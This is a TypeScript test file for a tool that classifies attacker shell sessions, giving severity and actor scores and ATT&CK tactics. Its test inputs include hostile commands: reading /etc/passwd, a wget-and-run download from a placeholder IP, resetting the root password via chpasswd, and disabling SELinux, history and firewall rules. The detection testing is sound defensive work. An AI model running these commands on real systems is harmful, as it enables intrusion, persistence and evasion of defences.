import { PassThrough, Readable } from 'node:stream';
import { TechniqueFinding } from '@cerberusmesh/contract/assessment';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { assessCommand } from './assess.ts';

const Answer = z.object({
  id: z.union([z.string(), z.number()]),
  severity: z.enum(['LOW', 'MEDIUM', 'HIGH']),
  threatScore: z.number().min(0).max(1),
  anomalyScore: z.number().min(0).max(1),
  anomalyWhy: z.string().nullable(),
  novelty: z.number().min(0).max(1),
  noveltyWhy: z.string().nullable(),
  actor: z.enum(['script', 'human']),
  actorScore: z.number().min(0).max(1),
  attackType: z.string(),
  confidence: z.number().min(0).max(1),
  statements: z.array(
    z.object({
      text: z.string(),
      tactic: z.string(),
      techniques: z.array(TechniqueFinding),
      severity: z.enum(['LOW', 'MEDIUM', 'HIGH']),
    }),
  ),
});

describe('cerberus assess', () => {
  it('answers every line in order, a bad one with its fault, and goes on', async () => {
    const answers = await run([
      JSON.stringify({ id: 'a', commands: ['uname -a; cat /etc/passwd', 'id'] }),
      'no json',
      JSON.stringify({ id: 7, lines: [] }),
      JSON.stringify({ id: 'b', statements: ['cd /tmp ;', 'wget http://192.0.2.1/x ;', 'sh x ;'] }),
    ]);
    expect(answers).toHaveLength(4);
    expect(Answer.parse(answers[0])).toMatchObject({ id: 'a', severity: 'MEDIUM' });
    expect(Answer.parse(answers[0]).statements.map(({ text }) => text)).toEqual(['uname -a', 'cat /etc/passwd', 'id']);
    expect(answers[1]).toEqual({ id: null, error: expect.stringContaining('JSON') });
    expect(answers[2]).toEqual({ id: 7, error: expect.stringContaining('commands') });
    expect(Answer.parse(answers[3])).toMatchObject({ id: 'b', severity: 'HIGH' });
  });

  it('gives one answer per statement where the caller has split them', async () => {
    const statements = ['cat /proc/cpuinfo |', 'grep name |', 'wc -l ;', 'echo -en "\\x31" ;', '; ', ''];
    const [answer] = await run([JSON.stringify({ id: 1, statements })]);
    expect(Answer.parse(answer).statements.map(({ text }) => text)).toEqual(statements);
  });

  it('tells the same tactics of a line as of its statements', async () => {
    const statements = ['cat /proc/cpuinfo |', 'wc -l ;', 'echo root:abc |', 'chpasswd |', 'bash ;'];
    const [line, split] = await run([
      JSON.stringify({ id: 1, commands: [statements.join(' ')] }),
      JSON.stringify({ id: 2, statements }),
    ]);
    const tactics = (answer: unknown) => Answer.parse(answer).statements.map(({ tactic }) => tactic);
    expect(tactics(line)).toEqual(tactics(split));
    expect(tactics(line)).toEqual(['Discovery', 'Discovery', 'Persistence', 'Persistence', 'Persistence']);
  });

  it('numbers techniques as ATT&CK v19 when asked', async () => {
    const request = JSON.stringify({ id: 1, commands: ['setenforce 0'] });
    const ids = async (...options: string[]) =>
      Answer.parse((await run([request], options))[0]).statements.flatMap(({ techniques }) =>
        techniques.map(({ id }) => id),
      );
    expect(await ids()).toContain('T1562.001');
    expect(await ids('--attack', '19')).toContain('T1685');
  });

  it('names the halves of Defense Evasion as v19 does', async () => {
    const commands = ['setenforce 0', 'history -c', 'iptables -F', 'chmod +x a', 'touch -r /bin/ls /tmp/x'];
    const tactics = async (...options: string[]) =>
      Answer.parse((await run([JSON.stringify({ id: 1, commands })], options))[0]).statements.map(
        ({ tactic }) => tactic,
      );
    const [v18, v19] = [await tactics(), await tactics('--attack', '19')];
    expect(v18).toContain('Defense Evasion');
    expect(v19).not.toContain('Defense Evasion');
    expect(v19.filter((tactic) => /^(?:Stealth|Defense Impairment)$/.test(tactic))).toHaveLength(
      v18.filter((tactic) => tactic === 'Defense Evasion').length,
    );
  });

  it('asks the times of the commands who typed, and refuses times that are not one for each', async () => {
    const commands = ['ls', 'cat notes', 'cat note', 'pwd', 'cd ..', 'ls'];
    const [quick, slow, wrong] = await run([
      JSON.stringify({ id: 1, commands, times: commands.map((_, at) => at / 50) }),
      JSON.stringify({ id: 2, commands, times: [0, 7, 12, 40, 46, 61] }),
      JSON.stringify({ id: 3, commands, times: [0] }),
    ]);
    expect(Answer.parse(slow).actorScore).toBeGreaterThan(Answer.parse(quick).actorScore);
    expect(wrong).toEqual({ id: 3, error: expect.stringContaining('times') });
  });

  it('takes an empty session, a megabyte and 27,742 commands', async () => {
    const answers = await run([
      JSON.stringify({ id: 'none', commands: [] }),
      JSON.stringify({ id: 'big', commands: ['x'.repeat(1_000_000)] }),
      JSON.stringify({ id: 'many', commands: Array.from({ length: 27_742 }, (_, at) => `echo ${at % 50}`) }),
      JSON.stringify({ id: '__proto__', commands: ['__proto__', 'constructor'] }),
    ]);
    expect(answers.map((answer) => Answer.parse(answer).id)).toEqual(['none', 'big', 'many', '__proto__']);
    expect(Answer.parse(answers[2]).statements).toHaveLength(27_742);
  });
});

async function run(lines: readonly string[], options: readonly string[] = []): Promise<unknown[]> {
  const stdout = new PassThrough();
  const text = stdout.setEncoding('utf8').toArray();
  const io = { stdin: Readable.from([`${lines.join('\n')}\n`]), stdout, stderr: new PassThrough() };
  await assessCommand(io).parseAsync([...options], { from: 'user' });
  stdout.end();
  const all = (await text).join('');
  return all
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}
